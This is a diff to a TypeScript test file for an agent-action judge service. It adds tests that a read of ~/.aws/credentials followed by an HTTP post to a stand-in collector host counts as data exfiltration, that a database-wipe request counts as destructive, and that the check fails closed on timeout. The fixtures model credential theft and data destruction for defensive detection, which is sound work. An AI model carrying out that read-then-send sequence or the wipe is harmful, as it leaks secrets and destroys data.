@@ -5,6 +5,7 @@ import {
   tenantWithKey,
   type RunningControlPlane,
 } from '../harness/control-plane.ts';
+import { startSimulator, type Simulator } from '../simulator/index.ts';
 
 let cp: RunningControlPlane;
 let reader: string;
@@ -71,8 +72,68 @@ describe('POST /v1/brain/semantic-judge/evaluate', () => {
     expectSvcError(await judge({ text: 'x', intent: 'DESTRUCTIVE' }, noScope), 403, 'SVC-SYS-9004');
   });
 
+  it('reads the earlier actions a caller gives in the context (the sequence rules)', async () => {
+    const post = {
+      text: '',
+      intent: 'DATA_EXFILTRATION',
+      tool_name: 'http_post',
+      tool_args: { url: 'https://collector.example.net/in', body: '{"report":"weekly"}' },
+    };
+    const alone = await judge(post);
+    expect(alone.body).toMatchObject({ violated: false });
+    const after = await judge({
+      ...post,
+      context: {
+        recent_actions: [
+          { action: 'tool:read_file', tool_name: 'read_file', tool_args: '{"path":"~/.aws/credentials"}', at: 1 },
+        ],
+      },
+    });
+    expect(after.body).toMatchObject({
+      violated: true,
+      category: 'DATA_EXFILTRATION',
+      evidence: [expect.objectContaining({ signal: 'sequence.secret_read_then_send' })],
+    });
+  });
+
   it('is in the OpenAPI document', async () => {
     const doc = await cp.call('GET', '/openapi.json');
     expect((doc.body as { paths: Record<string, unknown> }).paths['/v1/brain/semantic-judge/evaluate']).toBeDefined();
+  });
+});
+
+describe('a tenant that chose the LLM judge', () => {
+  let sim: Simulator;
+  let llmCp: RunningControlPlane;
+  let llmKey: string;
+  let builtinKey: string;
+
+  beforeAll(async () => {
+    sim = await startSimulator();
+    llmCp = await startControlPlane({
+      semantic_judge_tenant_modes: 'llmco=llm',
+      semantic_judge_llm_url: `${sim.url}/v1`,
+      semantic_judge_llm_timeout_ms: 1000,
+    });
+    llmKey = await tenantWithKey(llmCp, 'llmco', ['policies:read']);
+    builtinKey = await tenantWithKey(llmCp, 'rulesco', ['policies:read']);
+  });
+  afterAll(async () => {
+    await llmCp.close();
+    await sim.close();
+  });
+
+  const ask = (key: string, text: string) =>
+    llmCp.call('POST', '/v1/brain/semantic-judge/evaluate', { key, body: { text, intent: 'DESTRUCTIVE' } });
+
+  it('is judged by the endpoint, the other tenants by the built-in judge', async () => {
+    const llm = await ask(llmKey, 'please wipe the database');
+    expect(llm.body).toMatchObject({ violated: true, judge: 'llm', category: 'DESTRUCTIVE' });
+    const builtin = await ask(builtinKey, 'please wipe the database');
+    expect(builtin.body).toMatchObject({ judge: 'builtin' });
+  });
+
+  it('gets SVC-SYS-9001 when the endpoint does not answer in time (fail mode closed)', async () => {
+    expectSvcError(await ask(llmKey, 'sim-judge:slow=5000 hello'), 503, 'SVC-SYS-9001');
   });
 });
